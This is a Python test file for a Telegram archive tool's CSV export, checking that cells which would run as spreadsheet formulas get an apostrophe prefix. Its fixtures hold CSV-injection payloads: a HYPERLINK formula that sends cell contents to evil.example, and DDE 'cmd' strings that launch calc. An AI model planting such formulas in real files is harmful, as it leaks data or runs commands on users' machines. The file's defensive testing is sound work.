"""CSV exports write a cell a spreadsheet would run as a formula after a ``'`` (OWASP).

A channel's post "=HYPERLINK(\\"https://evil.example/?\\"&A1, \\"click\\")" opened in Excel or
LibreOffice from a CSV export was a live formula that sends what the sheet holds away. Every
CSV tg-archiver writes (the command line on both engines, the web's and the bot's downloads)
now prefixes such a text cell with a ``'``; ``export --csv-raw`` writes it as stored; JSON Lines
and the other formats stay exact.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

from conftest import ingest, make_post

from tg_archiver.archive.export import csv_text, format_lines, write_lines
from tg_archiver.archive.export_file import export_to_temp
from tg_archiver.archive.query import parse_query
from tg_archiver.archive.store import ExportFilter, Store

HOSTILE = {
    "1": '=HYPERLINK("https://evil.example/?"&A1, "click")',
    "2": "+7 495 123-45-67 call now",
    "3": "-cmd|' /C calc'!A0",
    "4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "5": "\tTabbed start",
    "6": "\rCarriage start",
    "7": "-5",  # a plain number: no formula, left alone
    "8": "A plain post, = later",
}


async def hostile_archive(store: Store) -> None:
    await ingest(store, *(make_post(e, t, day=int(e)) for e, t in HOSTILE.items()))


def cells(data: str) -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    return {r["external_id"]: r["text"] for r in rows}


def test_csv_text_prefixes_formula_starts_only() -> None:
    assert csv_text("=1+1") == "'=1+1"
    assert csv_text("@x") == "'@x"
    assert csv_text("-5") == "-5" and csv_text("+1.5") == "+1.5"
    assert csv_text("- a list item") == "'- a list item"
    assert csv_text("plain") == "plain" and csv_text("") == ""


def test_cli_csv_escapes_formulas_and_csv_raw_and_jsonl_keep_them(tmp_path: Path, cli) -> None:
    db = tmp_path / "archive.db"

    async def build() -> None:
        async with await Store.open(db) as store:
            await hostile_archive(store)

    asyncio.run(build())
    r = cli("--db", db, "export", "--format", "jsonl")  # exact: as the archive holds them
    texts = {json.loads(x)["external_id"]: json.loads(x)["text"] for x in r.out.splitlines()}
    assert texts["1"] == HOSTILE["1"]
    r = cli("--db", db, "export", "--format", "csv")
    assert r.code == 0, r.err
    got = cells(r.out)
    for ext, text in texts.items():
        assert got[ext] == csv_text(text), ext
    assert got["1"].startswith("'=HYPERLINK") and got["5"].startswith("'\t")
    assert got["7"] == "-5" and got["8"] == "A plain post, = later"

    r = cli("--db", db, "export", "--format", "csv", "--csv-raw")
    assert r.code == 0, r.err
    assert cells(r.out) == texts  # as stored, when asked
    r = cli("--db", db, "export", "--format", "jsonl", "--csv-raw")
    assert r.code == 1 and r.err == "tg-archiver: error: --csv-raw works with --format csv\n"


async def test_both_engines_and_the_downloads_escape_alike(engine_store: Store) -> None:
    store = engine_store
    await hostile_archive(store)

    def lines(fmt: str) -> bytes:
        out = io.BytesIO()
        write_lines(store.read_export_lines(ExportFilter(), fmt), out, fmt)
        return out.getvalue()

    for fmt in ("csv", "csv-raw"):
        engine = await asyncio.to_thread(lines, fmt)
        python = await asyncio.to_thread(
            lambda f=fmt: format_lines(store.read_posts(ExportFilter()), f)
        )
        assert engine.split(b"\r\n", 1)[1] == python, fmt  # SQL and Python alike
    assert cells((await asyncio.to_thread(lines, "csv")).decode())["1"].startswith("'=")
    # The web's /export.csv and the bot's /export csv write through export_to_temp.
    now = datetime(2024, 3, 9, tzinfo=UTC)
    for query in (parse_query("", sources=("@example_mfa",)), parse_query("HYPERLINK")):
        path, n = await export_to_temp(store, query, "csv", now=now, limit=1 << 30)
        try:
            assert n >= 1
            assert cells(path.read_text(encoding="utf-8"))["1"].startswith("'=HYPERLINK")
        finally:
            path.unlink()
            path.parent.rmdir()
